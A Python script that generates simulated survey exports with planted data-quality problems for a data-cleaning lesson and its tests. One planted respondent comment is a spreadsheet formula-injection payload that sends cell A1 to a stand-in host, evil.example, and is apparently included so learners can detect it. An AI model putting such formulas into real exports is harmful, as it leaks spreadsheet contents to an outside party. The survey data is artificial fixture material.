"""Write the raw survey exports of lesson 03 into ``datasets/fixtures/``: a GBK-encoded
问卷星 export and a Qualtrics export with its codebook, each with planted problems.

    python datasets/make/fixtures.py

Planted problems (the lesson and the tests find exactly these):
- ``wjx_hotel_gbk.csv`` (30 respondents, GBK, option text instead of codes, matrix
  question 2 with four sub-items, a phone-number column, free text with contact
  details): respondent 17 answers 一般 to every rating in 38 seconds (a straight-liner);
  respondent 23 finishes in 41 seconds but answers with care; respondent 9 skips
  question 2's breakfast item.
- ``qualtrics_retail.csv`` (40 responses, UTF-8 with BOM, three header rows): Q1_2 holds
  the value 8 on a 1–7 scale for R_0007 and R_0031; R_0012 was submitted twice; R_0025
  straight-lines 4 on every item in 40 seconds; Q4_4 is reverse-keyed; one comment is
  a spreadsheet formula (``=HYPERLINK(…)``); two comments quote an e-mail address.
- ``qualtrics_retail_codebook.csv``: the codebook of that export.
"""

from __future__ import annotations

import sys
from pathlib import Path

import numpy as np
import pandas as pd

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from cxlab.simulate import simulate

OUT = Path(__file__).resolve().parent.parent / "fixtures"
SEED = 20261124
SAT5 = ["非常不满意", "不满意", "一般", "满意", "非常满意"]
ASPECTS = ["客房清洁", "前台服务", "早餐", "性价比"]
COMMENTS_ZH = [
    "",
    "",
    "早餐品种可以再多一些",
    "前台小姐姐很热情",
    "房间有点小，但很干净",
    "隔音不太好",
    "",
    "下次还会再来，有问题请联系我 13812345678",
    "空调噪音大",
    "",
    "性价比很高",
    "退房速度很快",
    "",
    "希望增加健身房开放时间",
    "发票请寄到 wang.li@163.com",
]


def wjx(seed: int = SEED) -> pd.DataFrame:
    """The 问卷星 export as a DataFrame (option text, Chinese headers)."""
    sim = simulate(
        "S =~ 0.85*s0 + 0.75*s1 + 0.7*s2 + 0.6*s3 + 0.7*s4\nN ~ 0.8*S",
        n=30,
        seed=seed,
        likert=5,
        thresholds={f"s{i}": [-2.2, -1.5, -0.5, 0.5] for i in range(5)},
    )
    rng = np.random.default_rng(seed)
    d = sim.data
    nps = np.clip(np.round(7.5 + 2.2 * d["N"]), 0, 10).astype(int)
    seconds = rng.integers(95, 420, 30)
    seconds[16], seconds[22] = 38, 41
    start = pd.Timestamp("2025-10-02 09:00:00")
    df = pd.DataFrame(
        {
            "序号": range(1, 31),
            "提交答卷时间": [
                (start + pd.Timedelta(minutes=int(m))).strftime("%Y/%m/%d %H:%M:%S")
                for m in np.sort(rng.integers(0, 60 * 24 * 9, 30))
            ],
            "所用时间": [f"{s}秒" for s in seconds],
            "来源": rng.choice(["微信", "手机提交", "链接"], 30),
            "来自IP": [
                "111." + ".".join(str(rng.integers(1, 255)) for _ in range(3)) + "(上海-上海)"
                for _ in range(30)
            ],
            "1、您对本次入住的总体满意度": [SAT5[v - 1] for v in d["s0"]],
        }
    )
    for k, aspect in enumerate(ASPECTS, start=1):
        df[f"2、请评价以下方面—{aspect}"] = [SAT5[v - 1] for v in d[f"s{k}"]]
    df["3、您向朋友或同事推荐本酒店的可能性有多大？"] = nps
    df["4、您的手机号码"] = [
        f"13{rng.integers(0, 10)}{rng.integers(10_000_000, 99_999_999)}" for _ in range(30)
    ]
    df["5、您还有什么建议？"] = [COMMENTS_ZH[i % len(COMMENTS_ZH)] for i in range(30)]
    ratings = [c for c in df.columns if c.startswith(("1、", "2、"))]
    df.loc[16, ratings] = "一般"  # respondent 17
    df.loc[8, "2、请评价以下方面—早餐"] = ""  # respondent 9 skips breakfast
    return df


QUALTRICS_ITEMS = {
    "Q1_1": "Prices and promotions are the same in the store, the app and the website",
    "Q1_2": "I can start a purchase in one channel and finish it in another",
    "Q1_3": "Store staff know what I ordered online",
    "Q1_4": "Returns are easy whichever channel I bought in",
    "Q2_1": "This retailer keeps its promises",
    "Q2_2": "I can rely on the information this retailer gives me",
    "Q2_3": "This retailer has my interests at heart",
    "Q3_1": "Overall, I am satisfied with this retailer",
    "Q3_2": "This retailer meets my expectations",
    "Q3_3": "This retailer comes close to my ideal retailer",
    "Q4_1": "I will buy from this retailer again in the coming months",
    "Q4_2": "This retailer is my first choice for this kind of product",
    "Q4_3": "I would recommend this retailer to others",
    "Q4_4": "I am likely to switch to another retailer",
}
STEMS = {
    "Q1": "Channel consistency",
    "Q2": "Trust",
    "Q3": "Satisfaction",
    "Q4": "Loyalty intention",
}
STEMS_ZH = {"Q1": "渠道一致性", "Q2": "信任", "Q3": "满意度", "Q4": "忠诚意向"}


def qualtrics(seed: int = SEED) -> tuple[list[str], list[str], list[str], pd.DataFrame]:
    """(names, question texts, ImportIds, answers) of the Qualtrics export."""
    model = (
        "C =~ 0.8*Q1_1 + 0.75*Q1_2 + 0.7*Q1_3 + 0.75*Q1_4\n"
        "T =~ 0.85*Q2_1 + 0.8*Q2_2 + 0.75*Q2_3\n"
        "S =~ 0.85*Q3_1 + 0.85*Q3_2 + 0.75*Q3_3\n"
        "L =~ 0.85*Q4_1 + 0.8*Q4_2 + 0.8*Q4_3 + 0.65*Q4_4\n"
        "T ~ 0.5*C\nS ~ 0.3*C + 0.45*T\nL ~ 0.6*S"
    )
    sim = simulate(model, n=40, seed=seed + 1, likert=7, thresholds="skewed")
    rng = np.random.default_rng(seed + 1)
    d = sim.data[list(QUALTRICS_ITEMS)].copy()
    d["Q4_4"] = 8 - d["Q4_4"]
    d.loc[[6, 30], "Q1_2"] = 8
    d.loc[24, list(QUALTRICS_ITEMS)] = 4
    start = pd.Timestamp("2025-11-03 08:00:00")
    begin = start + pd.to_timedelta(np.sort(rng.integers(0, 7 * 24 * 3600, 40)), unit="s")
    duration = rng.integers(150, 900, 40)
    duration[24] = 40
    ids = [f"R_{i:04d}" for i in range(1, 41)]
    comments = [""] * 40
    comments[3] = "Click-and-collect was quick."
    comments[10] = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a voucher")'
    comments[14] = "Please contact me at anna.schmidt@example.com about my refund"
    comments[21] = "+ app crashes at checkout"
    comments[27] = "App and store prices differ, annoying"
    comments[35] = "My email: li.na@example.cn, the parcel never arrived"
    meta = pd.DataFrame(
        {
            "StartDate": begin.strftime("%Y-%m-%d %H:%M:%S"),
            "EndDate": (begin + pd.to_timedelta(duration, unit="s")).strftime("%Y-%m-%d %H:%M:%S"),
            "Status": "IP Address",
            "IPAddress": [f"203.0.113.{rng.integers(1, 255)}" for _ in range(40)],
            "Progress": 100,
            "Duration (in seconds)": duration,
            "Finished": "True",
            "RecordedDate": (begin + pd.to_timedelta(duration, unit="s")).strftime(
                "%Y-%m-%d %H:%M:%S"
            ),
            "ResponseId": ids,
            "RecipientEmail": [
                f"customer{rng.integers(1000, 9999)}@example.com" for _ in range(40)
            ],
        }
    )
    answers = pd.concat([meta, d], axis=1)
    answers["Q5"] = np.clip(
        np.round(6.5 + 2.0 * sim.latent["L"] + rng.normal(0, 1, 40)), 0, 10
    ).astype(int)
    answers["Q6"] = comments
    dup = answers.iloc[[11]].copy()
    dup["StartDate"] = dup["EndDate"]
    answers = pd.concat([answers.iloc[:13], dup, answers.iloc[13:]], ignore_index=True)
    names = list(answers.columns)
    texts = [*meta.columns[:-2], "Response ID", "Recipient Email"]
    texts += [
        f"How much do you agree? ({STEMS[n[:2]]}) - {QUALTRICS_ITEMS[n]}" for n in QUALTRICS_ITEMS
    ]
    texts += [
        "How likely is it that you would recommend us to a friend or colleague?",
        "Anything else you would like to tell us?",
    ]
    import_ids = [f'{{"ImportId":"{n if n[0] != "Q" else "QID" + n[1:]}"}}' for n in names]
    return names, texts, import_ids, answers


def codebook() -> pd.DataFrame:
    """The codebook of the Qualtrics export."""
    rows = [
        {
            "name": n,
            "label_en": text,
            "label_zh": STEMS_ZH[n[:2]],
            "construct": STEMS[n[:2]],
            "scale_min": 1,
            "scale_max": 7,
            "reverse": n == "Q4_4",
        }
        for n, text in QUALTRICS_ITEMS.items()
    ]
    rows.append(
        {
            "name": "Q5",
            "label_en": "Likelihood to recommend (0-10)",
            "label_zh": "推荐可能性",
            "construct": "NPS",
            "scale_min": 0,
            "scale_max": 10,
            "reverse": False,
        }
    )
    rows.append(
        {"name": "ResponseId", "label_en": "Response id", "label_zh": "答卷编号", "reverse": False}
    )
    return pd.DataFrame(rows)


def main() -> None:
    """Write the three fixture files."""
    OUT.mkdir(exist_ok=True)
    text = wjx().to_csv(index=False, lineterminator="\r\n")
    (OUT / "wjx_hotel_gbk.csv").write_bytes(text.encode("gbk"))
    names, texts, import_ids, answers = qualtrics()
    header = pd.DataFrame([texts, import_ids], columns=names)
    body = pd.concat([header, answers.astype(str).replace({"": ""})], ignore_index=True)
    csv = body.to_csv(index=False, lineterminator="\r\n")
    (OUT / "qualtrics_retail.csv").write_bytes(csv.encode("utf-8-sig"))
    codebook().to_csv(OUT / "qualtrics_retail_codebook.csv", index=False, lineterminator="\n")


if __name__ == "__main__":
    main()
